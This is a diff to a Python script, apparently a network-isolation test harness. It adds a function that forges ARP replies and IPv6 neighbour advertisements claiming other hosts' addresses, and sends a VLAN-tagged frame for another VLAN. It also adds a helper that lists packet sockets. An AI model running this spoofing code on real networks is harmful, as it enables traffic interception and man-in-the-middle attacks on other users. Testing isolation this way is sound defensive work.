@@ -160,5 +160,25 @@ def forge(device, gateway, marker, own4, own6, target4, target6):
         s.send(frame(0x0800, udp4(own4, target4, 999, 999, text("END"))))
 
 
+def forge_neighbours(device, taken4, taken6):
+    """Claims to be who others are, by ARP and by NDP, and sends a frame for another VLAN."""
+    own = hardware(device)
+    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + own + socket.inet_aton(taken4) + b"\xff" * 6 + bytes(4)
+    claim = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + socket.inet_pton(socket.AF_INET6, taken6)
+    claim += struct.pack("!BB", 2, 1) + own
+    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
+        s.bind((device, 0))
+        s.send(b"\xff" * 6 + own + struct.pack("!H", 0x0806) + arp)
+        s.send(bytes.fromhex("333300000001") + own + struct.pack("!H", 0x86DD)
+               + ip6("fe80::bad", "ff02::1", 58, 255, claim, 2))
+        s.send(b"\xff" * 6 + own + struct.pack("!HHH", 0x8100, 7, 0x0806) + arp)
+
+
+def packets():
+    """The packet sockets of this network namespace."""
+    with open("/proc/self/net/packet") as f:
+        print(f.read(), end="")
+
+
 if __name__ == "__main__":
     globals()[sys.argv[1].replace("-", "_")](*sys.argv[2:])
